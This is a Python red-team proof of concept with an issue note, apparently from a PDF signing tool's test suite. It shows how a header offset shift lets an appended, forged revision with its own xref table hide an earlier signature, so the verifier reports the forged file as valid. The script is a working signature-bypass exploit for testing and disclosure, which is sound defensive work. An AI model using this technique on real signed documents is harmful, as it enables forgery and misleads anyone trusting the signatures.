# Red-team finding (2026-12-07, issue 19): a signature in a revision the chain skips is not found
# when its startxref is written under the other header base. A file with bytes before %PDF- and
# offsets counted from %PDF- (shift = header position) is signed by Alice; Mallory appends a
# complete xref table (no /Prev) with offsets from byte 0 and forged page content, then signs.
# Document::parse picks base 0 (tried first) for the whole file; unreached_startxrefs tests
# Alice's startxref under that base only (section_start(offset + self.shift)), finds nothing
# there, and hidden_signatures never reads her revision: countersign says VALID, all_valid true.
# Usage: python3 redteam_header_shift_hides_signature.py COUNTERSIGN CLASSIC_PDF OUTDIR [PREFIX_LEN]
#   (PREFIX_LEN 0 is the control: same attack without the shift, reported hidden).
import re, subprocess, sys
exe, classic, out = sys.argv[1], sys.argv[2], sys.argv[3]
prefix_len = int(sys.argv[4]) if len(sys.argv) > 4 else 40

def run(*args):
    return subprocess.run([exe, *args], capture_output=True)

# 1. The original: junk before %PDF-, offsets unchanged (counted from the header).
orig = open(classic, "rb").read()
prefixed = (b"X" * max(prefix_len - 1, 0) + b"\n" if prefix_len else b"") + orig
open(f"{out}/original.pdf", "wb").write(prefixed)
# 2. Alice signs (demo organisation).
assert run("sign", f"{out}/original.pdf", "-o", f"{out}/alice.pdf").returncode == 0
alice = open(f"{out}/alice.pdf", "rb").read()
# 3. Mallory: every object again, page 1 forged, a complete table with byte-0 offsets, no /Prev.
objs = {num: body for num, body in re.findall(rb"(?ms)^(\d+) 0 obj\n(.*?)\nendobj\n", orig)}
forged = b"BT /F1 24 Tf 72 720 Td (Forged) Tj ET"
objs[b"4"] = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(forged), forged)
data = bytearray(alice)
offsets = {}
for num in sorted(objs, key=int):
    offsets[int(num)] = len(data)
    data += num + b" 0 obj\n" + objs[num] + b"\nendobj\n"
xref = len(data)
data += b"xref\n0 9\n0000000000 65535 f \n"
data += b"".join(b"%010d 00000 n \n" % offsets[n] for n in range(1, 9))
trailer_id = re.search(rb"/ID \[[^\]]*\]", orig).group(0)
data += b"trailer\n<< /Size 9 /Root 1 0 R /Info 8 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (trailer_id, xref)
open(f"{out}/forged.pdf", "wb").write(data)
# 4. Mallory signs the forged file with another trusted seal (here the same demo organisation).
r = run("sign", f"{out}/forged.pdf", "-o", f"{out}/mallory.pdf")
assert r.returncode == 0, r.stderr
v = run("verify", f"{out}/mallory.pdf", "--trust", "testdata/pki/root-ca.cert.pem", "--json")
print("verify exit", v.returncode)
print(v.stdout.decode()[:3000])
